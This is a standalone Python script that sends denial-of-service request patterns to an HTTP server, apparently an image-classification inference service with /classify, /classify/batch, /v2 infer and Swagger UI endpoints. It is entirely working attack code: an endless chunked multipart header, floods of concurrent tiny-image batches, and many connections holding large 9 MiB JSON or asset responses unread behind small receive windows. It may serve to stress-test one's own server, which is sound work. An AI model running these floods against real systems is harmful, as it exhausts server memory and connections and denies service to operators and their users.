#!/usr/bin/env python3
"""Hostile request shapes against a running server, from outside, as an attacker would send
them (stdlib only). Prints the requests sent and the answers by status.

  attack.py HOST:PORT endless-header   # chunked multipart, a part header that never ends
  attack.py HOST:PORT tiny-batches     # 400 concurrent /classify/batch of 64 one-pixel PNGs
  attack.py HOST:PORT v2-echo          # 64 clients: a /v2 body of one 9 MiB JSON string, answers unread
  attack.py HOST:PORT unread-assets    # 120 clients pipelining 4 GETs of Swagger UI's script, reading nothing

The last two hold their connections open with a small receive window and read only the status
line, so that what the server sends stays in the server; they print the answers' sizes.
"""
import collections
import socket
import struct
import sys
import threading
import zlib


def status_of(sock):
    head = b""
    while not head.endswith(b"\r\n") and len(head) < 64:
        try:
            b = sock.recv(1)
        except OSError:
            break
        if not b:
            break
        head += b
    parts = head.split()
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


def endless_header(addr, limit=256 << 20):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)))
    s.settimeout(60)
    s.sendall(b"POST /classify HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=XyZ\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n")
    start = b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nX-Pad: '
    s.sendall(b"%x\r\n%s\r\n" % (len(start), start))
    result = {}
    t = threading.Thread(target=lambda: result.setdefault("status", status_of(s)))
    t.start()
    pad = b"A" * 65536
    sent = 0
    while sent < limit and t.is_alive():
        try:
            s.sendall(b"%x\r\n%s\r\n" % (len(pad), pad))
        except OSError:
            break
        sent += len(pad)
    t.join()
    print(f"endless-header: 1 request, {sent / 2**20:.1f} MiB sent before the answer; "
          f"answers by status: {{{result.get('status', 0)}: 1}}")


def png_1px():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x80\x80\x80")) + chunk(b"IEND", b""))


def tiny_batches(addr, requests=400, images=64):
    host, port = addr.rsplit(":", 1)
    png = png_1px()
    body = b"".join(b'--B\r\nContent-Disposition: form-data; name="files"; filename="p.png"\r\n'
                    b"Content-Type: image/png\r\n\r\n" + png + b"\r\n" for _ in range(images)) + b"--B--\r\n"
    head = (b"POST /classify/batch HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\n"
            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body))
    statuses = collections.Counter()
    lock = threading.Lock()

    def one():
        code = 0
        try:
            s = socket.create_connection((host, int(port)), timeout=60)
            s.sendall(head + body)
            code = status_of(s)
            s.close()
        except OSError:
            pass
        with lock:
            statuses[code] += 1

    threads = [threading.Thread(target=one) for _ in range(requests)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"tiny-batches: {requests} requests of {images} images ({len(head) + len(body)} bytes each, "
          f"{requests * (len(head) + len(body)) / 2**20:.1f} MiB in all); answers by status: {dict(statuses)}")


def held_unread(addr, request, single, clients, hold=3.0):
    """`clients` connections each send `request` and read only the status line (retrying on
    503), then all stay open, unread, for `hold` seconds. Returns the statuses and the size of
    the answer to `single`, sent by one more client that reads it whole."""
    host, port = addr.rsplit(":", 1)
    statuses = collections.Counter()
    held = []
    lock = threading.Lock()

    def one():
        for _ in range(200):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.settimeout(60)
            try:
                s.connect((host, int(port)))
                s.sendall(request)
                code = status_of(s)
            except OSError:
                code = 0
            if code != 503:
                with lock:
                    statuses[code] += 1
                    held.append(s)
                return
            s.close()

    threads = [threading.Thread(target=one) for _ in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    threading.Event().wait(hold)
    s = socket.create_connection((host, int(port)), timeout=60)
    s.sendall(single)
    answer = b""
    while True:
        b = s.recv(1 << 16)
        if not b:
            break
        answer += b
    for c in held:
        c.close()
    return statuses, len(answer)


def v2_echo(addr, clients=64, chars=(9 << 20) // 2 - 64):
    body = ('"' + "\u0080" * chars + '"').encode()
    head = (b"POST /v2/models/cifar10-cnn/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n" % len(body))
    statuses, size = held_unread(addr, head + b"\r\n" + body,
                                 head + b"Connection: close\r\n\r\n" + body, clients)
    print(f"v2-echo: {clients} clients, a {len(body)}-byte JSON string each, answers unread; "
          f"answers by status: {dict(statuses)}; one answer read whole: {size} bytes")


def unread_assets(addr, clients=120):
    get = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n"
    statuses, size = held_unread(addr, (get + b"\r\n") * 4, get + b"Connection: close\r\n\r\n",
                                 clients)
    print(f"unread-assets: {clients} clients pipelining 4 GETs each, reading nothing; "
          f"answers by status: {dict(statuses)}; one answer read whole: {size} bytes")


if __name__ == "__main__":
    {"endless-header": endless_header, "tiny-batches": tiny_batches, "v2-echo": v2_echo,
     "unread-assets": unread_assets}[sys.argv[2]](sys.argv[1])
